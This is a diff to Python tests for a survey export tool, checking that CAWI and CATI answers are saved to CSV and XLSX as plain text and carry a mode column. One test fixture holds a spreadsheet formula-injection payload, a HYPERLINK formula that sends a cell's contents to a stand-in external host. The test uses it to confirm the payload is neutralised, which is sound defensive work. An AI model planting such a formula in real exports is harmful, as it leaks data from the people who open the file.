@@ -68,6 +68,7 @@ def test_web_answers_export_as_text(app, session_factory, tmp_path):
     assert [(c.data_type, c.value) for c in cells] == [("s", t) for t in stored]
     others, ocells = read_back(paths, "M1_other")
     assert sum(o.startswith("'") for o in others) == 4 and all(c.data_type == "s" for c in ocells)
+    assert set(read_back(paths, "mode")[0]) == {"cawi"}  # every row says how it was answered
     names, ncells = read_back(paths, "enterprise_name")
     assert set(names) == {"'=呼叫中心"} and {c.value for c in ncells} == {"=呼叫中心"}
     no_formula_anywhere(paths["xlsx"])
@@ -90,6 +91,7 @@ def test_cati_keyed_answers_export_as_text(client, world, backend, session_facto
     with session_factory() as s:
         st = s.get(Study, world["study_id"])
         paths = export_responses(responses_frame(s, st.id), st.definition, tmp_path, formats=("csv", "xlsx"))
+    assert read_back(paths, "mode")[0] == ["cati"]
     texts, cells = read_back(paths, "OPEN1")
     assert texts == ['\'=HYPERLINK("http://x.example/?"&A1,"点这里")']
     assert [(x.data_type, x.value) for x in cells] == [("s", '=HYPERLINK("http://x.example/?"&A1,"点这里")')]
